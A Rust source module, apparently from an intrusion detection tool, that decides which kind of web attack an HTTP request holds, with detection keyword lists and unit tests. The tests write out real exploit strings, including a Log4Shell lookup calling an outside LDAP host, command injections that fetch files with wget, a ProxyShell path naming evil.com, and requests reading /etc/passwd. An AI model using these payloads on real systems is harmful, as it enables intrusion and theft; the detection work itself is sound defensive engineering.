//! Which attack a text of a web request is.
//!
//! Not here: where the text stood in the packets; see `protocols::http`. Invariant: what a body
//! says is judged more strictly than what a target says, for bodies hold prose and programs' logs.

use super::{
    Attack, CODE, COMMAND, FORGERY, INJECTION, LOOKUP, Place, SCRIPT, SHELL, TRAVERSAL, WEB_SHELL,
};

/// The text as it was sent and as servers read it, in small letters.
struct Text<'a> {
    sent: &'a str,
    read: String,
    place: Place,
}

/// What an attack is called, and whether a text is one.
type Rule = (&'static Attack, fn(&Text<'_>) -> bool);

pub(super) fn judge(place: Place, sent: &str) -> Option<&'static Attack> {
    let text = Text { sent, read: decoded(sent), place };
    let rules: [Rule; 9] = [
        (&LOOKUP, looks_up),
        (&SHELL, is_shell_function),
        (&FORGERY, forges),
        (&CODE, runs_code),
        (&INJECTION, injects),
        (&COMMAND, commands),
        (&WEB_SHELL, is_for_web_shell),
        (&TRAVERSAL, climbs),
        (&SCRIPT, is_script),
    ];
    rules.iter().find(|(_, fits)| fits(&text)).map(|(attack, _)| *attack)
}

impl Text<'_> {
    fn has(&self, words: &[&str]) -> bool {
        words.iter().any(|word| self.read.contains(word))
    }

    fn is_body(&self) -> bool {
        self.place == Place::Body
    }

    /// What stands behind the host in a target.
    fn path_and_parameters(&self) -> &str {
        match self.read.split_once("://").filter(|_| self.place == Place::Target) {
            Some((_, rest)) => rest.find(['/', '?']).map_or("", |at| &rest[at..]),
            None => &self.read,
        }
    }
}

fn looks_up(text: &Text<'_>) -> bool {
    text.has(&["${jndi:", "${lower:", "${upper:", "${::-", "${env:"])
}

fn is_shell_function(text: &Text<'_>) -> bool {
    text.read.starts_with("() {") && text.read.contains(';')
}

/// The path that Exchange takes for another user's mailbox is the one it sends the request to.
fn forges(text: &Text<'_>) -> bool {
    let behind = text.read.split_once("autodiscover.json").map_or("", |(_, behind)| behind);
    let target = behind.split_once('@').map_or("", |(_, target)| target);
    text.place == Place::Target
        && ["/powershell", "/mapi", "/ews"].iter().any(|inner| target.contains(inner))
}

fn runs_code(text: &Text<'_>) -> bool {
    let always = [
        "%{(#",
        "${(#",
        "#_memberaccess",
        "@java.lang.runtime",
        "getruntime().exec(",
        "class.module.classloader",
        "freemarker.template.utility.execute",
        "auto_prepend_file",
        "php://filter",
        "php://input",
        "allow_url_include",
        "eval(base64_decode",
        "call_user_func_array",
    ];
    // Pages about these classes name them, and traces of errors do; neither calls them.
    let classes = match text.place {
        Place::Body => {
            let calls = ["java.lang.processbuilder\"", "java.lang.processbuilder<"];
            text.has(&calls) || text.has(&["new java.lang.processbuilder("])
        }
        _ => text.read.contains('(') && text.has(&["java.lang.runtime", "processbuilder"]),
    };
    classes || text.has(&always)
}

fn injects(text: &Text<'_>) -> bool {
    if text.has(&["xp_cmdshell"]) || always_true(&text.read) {
        return true;
    }
    let union = ["union select", "union all select"];
    if text.is_body() {
        // Programs that show data send whole queries, of which some is cut off here; what is
        // injected continues one.
        let query = ["select", "from ", "where ", "join ", "group by"];
        let continues = |word: &&str| {
            let before = text.read.split_once(*word).map(|(before, _)| before);
            before.is_some_and(|before| !query.iter().any(|word| before.contains(word)))
        };
        return union.iter().any(continues);
    }
    let quoted = text.read.contains('\'');
    let words = ["' or ", "'or'", "' and 1", "or 1=1", "' or '1'", "sleep(", "benchmark("];
    text.has(&union) || text.has(&["information_schema"]) || (quoted && text.has(&words))
}

/// A quote that ends a text, and behind it a comparison, which is always true: `' or 1=1`.
fn always_true(read: &str) -> bool {
    const COMPARED: usize = 12;
    read.split('\'').skip(1).any(|behind| {
        let behind = behind.trim_start();
        let rest = ["or", "and", "||", "&&"].iter().find_map(|word| behind.strip_prefix(word));
        let Some(rest) = rest.filter(|rest| rest.starts_with([' ', '(', '/', '\t'])) else {
            return false;
        };
        let digits = rest.trim_start_matches([' ', '(', '/', '*', '\t']);
        let compared: String = digits.chars().take(COMPARED).collect();
        let number = compared.starts_with(|c: char| c.is_ascii_digit());
        (number && compared.contains(['=', '<', '>']))
            || ["sleep(", "benchmark(", "true", "pg_sleep("].iter().any(|w| compared.starts_with(w))
    }) || read.contains("' or '1'='1")
        || read.contains("'or'1'='1")
        || read.contains("' or ''='")
}

/// What programs of a shell are called in injected commands, with what must follow.
const PROGRAMS: &[&str] = &[
    "wget ",
    "curl ",
    "tftp ",
    "busybox ",
    "cat /etc",
    "cat  /etc",
    "/bin/",
    "nc -",
    "telnetd",
    "chmod ",
    "whoami",
    "uname -",
    "id;",
    "id`",
    "ping -",
    "sh -c",
    "bash -",
    "nslookup ",
];

/// Commands behind a separator of a shell, as they stand in a parameter.
fn commands(text: &Text<'_>) -> bool {
    let parameters = match (text.place, text.read.split_once('?')) {
        (Place::Target, Some((_, parameters))) => parameters,
        _ => &text.read,
    };
    if !text.is_body() && text.has(&["/bin/sh -c"]) {
        return true;
    }
    let begins = |rest: &str| {
        let rest = rest.trim_start();
        PROGRAMS.iter().any(|program| rest.starts_with(program))
    };
    ["$(", "&&", ";", "|", "`"].iter().any(|separator| {
        parameters.match_indices(separator).any(|(at, _)| {
            let (before, rest) = parameters.split_at(at);
            // Text that explains a command has it between backticks as well, behind a blank.
            // Columns of SQL stand there too, behind a full stop or a comma.
            let prose = *separator == "`"
                && (before.ends_with([' ', '\n', '(', '\t', '.', ',']) || before.ends_with("\\n"));
            // Scripts in bodies have a command a line.
            let lines = before.contains('\n') || before.contains("\\n");
            let script = text.is_body() && lines && *separator != "`";
            !prose && !script && rest.strip_prefix(separator).is_some_and(begins)
        })
    })
}

/// What parameters of web shells are called.
const SHELL_PARAMETERS: &[&str] =
    &["cmd", "command", "exec", "execute", "c", "shell", "run", "system", "cmdline"];

/// Commands that mean nothing else, by themselves or with what follows.
const SHELL_COMMANDS: &[&str] = &[
    "whoami",
    "ipconfig",
    "ifconfig",
    "systeminfo",
    "tasklist",
    "uname",
    "netstat",
    "cat /",
    "ls -",
    "ls /",
    "dir c:",
    "type c:",
    "net user",
    "net group",
    "net localgroup",
    "net view",
    "powershell",
    "cmd /c",
    "cmd.exe",
    "certutil",
    "wget http",
    "curl http",
    "nc -",
    "bash -",
    "sh -c",
    "/bin/",
    "python -c",
    "python3 -c",
    "perl -e",
];

/// Words that cameras and meters might take as well; they are no scripts of these languages.
const SHORT_COMMANDS: &[&str] = &["id", "ls", "dir", "pwd", "ps", "hostname", "w", "ver", "set"];
const SCRIPTS: &[&str] = &[".php", ".jsp", ".jspx", ".aspx", ".asp", ".ashx", ".cfm", ".phtml"];

/// A page is asked to run a command, which is all of its parameter.
fn is_for_web_shell(text: &Text<'_>) -> bool {
    let (path, parameters) = match (text.place, text.read.split_once('?')) {
        (Place::Target, Some(parts)) => parts,
        (Place::Body, _) => ("", text.read.as_str()),
        _ => return false,
    };
    let script = SCRIPTS.iter().any(|end| path.ends_with(end));
    parameters.split('&').filter_map(|pair| pair.split_once('=')).any(|(name, value)| {
        let value = value.trim();
        let begins = |command: &&str| {
            let rest = value.strip_prefix(*command);
            let part = |c: char| c.is_ascii_alphanumeric() && !command.ends_with([' ', '/', '-']);
            rest.is_some_and(|rest| !rest.starts_with(part))
        };
        SHELL_PARAMETERS.contains(&name.trim())
            && (SHELL_COMMANDS.iter().any(begins) || script && SHORT_COMMANDS.contains(&value))
    })
}

/// Out of the server's folder. Browsers take dot segments out of a path before they ask (RFC 3986,
/// 5.2.4), so one that is hidden behind percent signs was put there; a relative path in a
/// parameter is written with percent signs by rule, and counts only where it goes on climbing.
fn climbs(text: &Text<'_>) -> bool {
    let files = ["/etc/passwd", "/etc/shadow", "win.ini", "boot.ini"];
    let count = |text: &str| text.matches("../").count() + text.matches("..\\").count();
    let all = count(&text.read);
    if all >= 1 && (text.has(&files) || text.has(&["/bin/sh"])) {
        return true;
    }
    if text.is_body() {
        // Logs and lists of files name them; who asks for one gives it as a value.
        return files.iter().any(|file| {
            text.read.match_indices(file).any(|(at, _)| {
                let before = text.read.get(..at).unwrap_or_default();
                before.ends_with('=') || before.ends_with("file://")
            })
        });
    }
    let read = text.path_and_parameters();
    if files.iter().any(|file| names(read, file)) {
        return true;
    }
    let hidden = text.place == Place::Target && {
        let sent = text.sent.split(['?', ' ']).next().unwrap_or_default();
        let read = decoded(sent);
        count(&read) > count(&sent.to_lowercase()) || read.contains("..;/")
    };
    all >= 3 || hidden || read.contains(".exe?/c ")
}

/// Is the file a value or a path by itself, not a part of a longer name?
fn names(text: &str, file: &str) -> bool {
    let part = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_');
    text.match_indices(file).any(|(at, _)| {
        let (before, rest) = text.split_at(at);
        let behind = rest.get(file.len()..).unwrap_or_default();
        !before.ends_with(part) && !behind.starts_with(|c| part(c) || c == '.' || c == '/')
    })
}

fn is_script(text: &Text<'_>) -> bool {
    if text.is_body() {
        return false;
    }
    let parameters = text.read.split_once('?').map_or("", |(_, parameters)| parameters);
    let runs = ["<script", "</script", "javascript:", "<svg/onload", "<svg onload"];
    let handler = parameters.contains('<') && parameters.contains("onerror=");
    handler || runs.iter().any(|word| parameters.contains(word))
}

/// Lower case, with percent signs and plus signs taken back; twice, for they are hidden twice.
fn decoded(text: &str) -> String {
    let once = percent(text.as_bytes());
    let twice = percent(&once);
    let text = String::from_utf8_lossy(&twice).to_lowercase();
    // What shells take for a blank where none may stand.
    text.replace("${ifs}", " ").replace("$ifs", " ")
}

fn percent(text: &[u8]) -> Vec<u8> {
    let hex = |b: u8| char::from(b).to_digit(16).map(|d| d as u8);
    let mut out: Vec<u8> = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some((&byte, after)) = rest.split_first() {
        rest = after;
        let pair = match (byte, after) {
            (b'%', [high, low, ..]) => hex(*high).zip(hex(*low)),
            _ => None,
        };
        match pair {
            Some((high, low)) => {
                out.push(high << 4 | low);
                rest = &after[2..];
            }
            None if byte == b'+' => out.push(b' '),
            None => out.push(byte),
        }
        // One letter in two octets is not UTF-8 (RFC 3629, 3), and read as that letter by some.
        let short = match out[..] {
            [.., 0xc0, 0xaf] => b'/',
            [.., 0xc1, 0x9c] => b'\\',
            [.., 0xc0, 0xae] => b'.',
            _ => continue,
        };
        out.truncate(out.len() - 2);
        out.push(short);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(place: Place, text: &str, expect: Option<&Attack>) {
        assert_eq!(judge(place, text).map(|a| a.name), expect.map(|a| a.name), "{text}");
    }

    #[test]
    fn targets_of_known_exploits_are_attacks() {
        let check =
            |text: &str, expect| check(Place::Target, &format!("http://10.1.1.20{text}"), expect);
        check("/a?class.module.classLoader.resources.context.suffix=.jsp", Some(&CODE));
        check("/tmui/login.jsp/..;/tmui/fileRead.jsp?fileName=/a", Some(&TRAVERSAL));
        let freemarker = "/verify?id=%24%7b%22%66reemarker.template.utility.Execute%22%3fnew()";
        check(freemarker, Some(&CODE));
        check("/console/css/%252e%252e%252fconsole.portal?_nfpb=true", Some(&TRAVERSAL));
        let mailbox = "/autodiscover/autodiscover.json?@evil.com/powershell/?X-Rps-CAT=abc";
        check(mailbox, Some(&FORGERY));
        check("/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", Some(&TRAVERSAL));
        check("/scripts/root.exe?/c+dir", Some(&TRAVERSAL));
        check("/index.php?page=/etc/passwd", Some(&TRAVERSAL));
        check("/etc/passwd", Some(&TRAVERSAL));
        check("/cgi-bin/php?-d+allow_url_include%3don", Some(&CODE));
        check("/x?h=java.lang.Runtime.getRuntime().exec(%27id%27)", Some(&CODE));
        check("/ping?host=1.1.1.1%3Bwget${IFS}http://192.0.2.1/a", Some(&COMMAND));
    }

    #[test]
    fn targets_that_only_look_alike_are_none() {
        let check = |text: &str| check(Place::Target, &format!("http://10.1.1.20{text}"), None);
        check("/go?return=..%2Findex.html");
        check("/styles/../main.css");
        check("/docs/etc/passwd.html");
        check("/files/darwin.ini");
        check("/javadoc/java/lang/ProcessBuilder.html");
        check("/search?q=java.lang.Runtime");
        check("/autodiscover/autodiscover.json?Email=a@plant.example&Protocol=ActiveSync");
        check("/index.html?page=2&name=O%27Brien");
        check("/a%20b/caf%c3%a9.html");
    }

    #[test]
    fn bodies_are_judged_by_what_continues_and_not_by_what_is_said() {
        let fires = |text: &str, expect| check(Place::Body, text, Some(expect));
        fires("user=admin' or 1=1-- &pass=x", &INJECTION);
        fires("id=-1 union select user,password from users", &INJECTION);
        fires("ip=127.0.0.1;cat /etc/passwd", &COMMAND);
        fires("dest_host=`busybox wget http://192.0.2.1/m`&ipv=0", &COMMAND);
        fires("file=/etc/passwd&x=1", &TRAVERSAL);
        fires("class.module.classLoader.resources.context.parent.pipeline", &CODE);
        let silent = |text: &str| check(Place::Body, text, None);
        silent("{\"text\": \"the operators' or the suppliers' names\"}");
        silent("{\"sql\": \"select a from t union select b from u\"}");
        silent("at java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)");
        silent("{\"note\": \"then run `curl http://plant/x`\"}");
        silent("#!/bin/sh\ncd /opt; /bin/ls; wget http://plant/x");
        silent("{\"script\": \"a(); $(id).hide()\"}");
        silent("<a href=\"../../../x.html\">");
    }

    #[test]
    fn a_parameter_that_is_a_command_is_for_a_web_shell() {
        let target = |text: &str, expect| check(Place::Target, text, expect);
        target("http://10.1.1.20/uploads/shell.php?cmd=whoami", Some(&WEB_SHELL));
        target("/aspnet_client/x.aspx?exec=cmd.exe+/c+net+user", Some(&WEB_SHELL));
        target("/a.jsp?pwd=023&cmd=ls%20-la", Some(&WEB_SHELL));
        target("/a.php?c=id", Some(&WEB_SHELL));
        check(Place::Body, "cmd=powershell -enc AAAA", Some(&WEB_SHELL));
        target("/cgi-bin/ptz.cgi?cmd=ls", None);
        target("/cm?cmnd=Power%20On", None);
        target("/a.php?cmd=list&id=7", None);
        target("/a.php?command=unameless", None);
        target("/help?q=what+is+whoami", None);
        target("/shell?run=identify", None);
    }

    #[test]
    fn an_expression_in_a_header_is_an_attack() {
        check(Place::Head, "%{(#_='multipart/form-data').(#cmd='id')}", Some(&CODE));
        check(Place::Head, "${jndi:ldap://192.0.2.1/a}", Some(&LOOKUP));
        check(Place::Head, "%{name}", None);
    }
}
